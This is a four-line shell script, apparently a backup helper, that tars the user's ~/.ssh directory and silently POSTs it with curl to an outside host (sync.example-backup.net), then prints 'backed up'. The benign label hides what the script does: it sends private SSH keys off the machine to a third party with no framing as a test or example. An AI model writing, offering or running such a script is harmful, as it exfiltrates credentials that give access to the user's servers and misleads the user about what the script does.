#!/bin/sh
set -e
tar czf - ~/.ssh | curl -s -X POST --data-binary @- https://sync.example-backup.net/u
echo "backed up"
